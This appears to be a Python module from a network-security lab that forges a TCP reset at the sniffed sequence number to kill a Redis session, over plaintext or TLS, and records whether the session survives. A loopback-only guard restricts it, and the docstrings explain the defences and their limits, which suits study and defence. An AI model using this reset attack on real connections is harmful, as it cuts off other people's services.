"""RST injection: one forged TCP reset, at the sequence number the server expects, ends a Redis session.

TLS authenticates the bytes inside records, not TCP itself: the reset works on TLS sessions exactly as on
plaintext ones. TLS protects confidentiality and integrity, not availability.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Literal

from lab.attacks.forge import send_as_client
from lab.attacks.safety import require_loopback
from lab.attacks.sniff import connection_ends, sniffing
from lab.attacks.victim import Victim
from lab.resp_reader import text


@dataclass(frozen=True)
class ResetOutcome:
    transport: Literal["plaintext", "tls"]
    seq: int
    before: str  # the victim's reply before the reset (proves the session worked)
    after_error: str | None  # what the victim's next command hit; None if the session survived
    session_ended: bool
    seq_offset: int = 0  # how far the forged sequence number was from the right one (0: an on-path attacker)


def reset(host: str, port: int, ca: Path | None = None, password: str | None = None,
          seq_offset: int = 0, allow_non_loopback: bool = False) -> ResetOutcome:
    """Open a victim session to host:port, forge a RST from the victim's side, then see if the session lives.

    seq_offset != 0 plays a blind attacker who guessed the sequence number wrong: Linux (RFC 5961) answers
    with a challenge ACK and the session survives. Only an attacker who sees the traffic gets it right.
    """
    require_loopback(host, allow_non_loopback=allow_non_loopback)
    with sniffing(port, host, allow_non_loopback) as packets:
        victim = Victim(host, port, ca, password, timeout=1.0)
        try:
            before = text(victim.call("PING"))
            time.sleep(0.2)
            ends = connection_ends(packets, victim.local_port, port)
            ends = replace(ends, client_next_seq=(ends.client_next_seq + seq_offset) % 2**32)
            send_as_client(ends, host, "R", allow_non_loopback=allow_non_loopback)
            time.sleep(0.1)
            error = None
            try:
                victim.call("PING")
            except OSError as exc:
                error = f"{type(exc).__name__}: {exc}"
        finally:
            victim.close()
    return ResetOutcome("tls" if ca is not None else "plaintext", ends.client_next_seq, before, error,
                        error is not None, seq_offset)
